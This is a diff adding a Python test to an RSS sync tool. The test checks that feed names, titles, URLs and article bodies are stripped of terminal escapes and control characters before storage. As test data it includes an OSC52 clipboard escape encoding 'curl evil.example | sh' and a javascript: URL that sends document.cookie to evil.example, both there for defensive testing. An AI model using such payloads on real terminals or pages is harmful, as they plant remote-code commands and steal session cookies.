@@ -261,3 +261,56 @@ def test_a_login_on_the_team_store_syncs_at_once_into_it(
     # the team store's reader is anna (newsroom's --user), not the server's user
     assert str(status(ben, capsys)["secret_holder"]).startswith("anna on ")
     assert read_state(ben, "Stadt Herne: Bahnhofstraße") == (False, False)
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+
+
+def _printable(text: str) -> bool:
+    return all(char.isprintable() or char == "\n" for char in text)
+
+
+def test_hostile_names_titles_and_urls_reach_the_store_cleaned(
+    freshrss: SyncServer, place: Place, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The feed paths' cleaning, on the local cache and on the team store: escapes (with
+    their payload) and controls taken out, a URL holding one refused, markup kept as text;
+    a body of plain paragraphs (made here) and one with an escape (made in the workers)."""
+    feed = freshrss.add_feed(f"[red]Polizei[/red] Bochum{OSC52}", "https://www.bochum.de/a.xml")
+    freshrss.feeds[feed].category = f"Blaulicht\u202e{OSC52}"
+    freshrss.feeds[feed].url = f"https://www.bochum.de/rss{OSC52}.xml"
+    plain = freshrss.add_item(
+        feed,
+        f"Festnahme in Herne{OSC52}\x9b2J\u2066",
+        "javascript:fetch('https://evil.example/?'+document.cookie)",
+        "<p>Die Polizei nahm\u202e einen Mann fest.</p>\n<p>[red]Alarm[/red]</p>",
+    )
+    escaped = freshrss.add_item(
+        feed,
+        f"Einbruch in Wattenscheid\x1b[31m{OSC52}",
+        f"https://www.bochum.de/einbruch{OSC52}.html",
+        f"<p>Der Täter flüchtete.{OSC52}\x9d52;c;eA==\x07</p><p>Zeugen gesucht.</p>",
+    )
+    assert plain != escaped
+    log_in(place, capsys, freshrss, "freshrss")
+    code, report, err = fetch_json(place, capsys)
+    assert code == EXIT_OK and report["sync"]["new_articles"] == 2, err
+    store = place.store()
+    try:
+        (synced_feed,) = store.feeds()
+        rows = sorted(store.articles(), key=lambda row: row.title)
+        bodies = [store.article(row.id) for row in rows]
+    finally:
+        store.close()
+    assert synced_feed.title == "[red]Polizei[/red] Bochum"
+    assert synced_feed.category == "Blaulicht"
+    assert [row.title for row in rows] == ["Einbruch in Wattenscheid", "Festnahme in Herne"]
+    assert [row.url for row in rows] == [None, None]  # refused, not made up
+    assert all(row.feed == "[red]Polizei[/red] Bochum" for row in rows)
+    texts = [synced_feed.url]
+    for body in bodies:
+        assert body is not None
+        texts += [body.body_markdown, body.summary]
+    assert "[red]Alarm[/red]" in bodies[1].body_markdown  # type: ignore[union-attr]
+    for text in texts:
+        assert _printable(text) and "52;" not in text, repr(text)
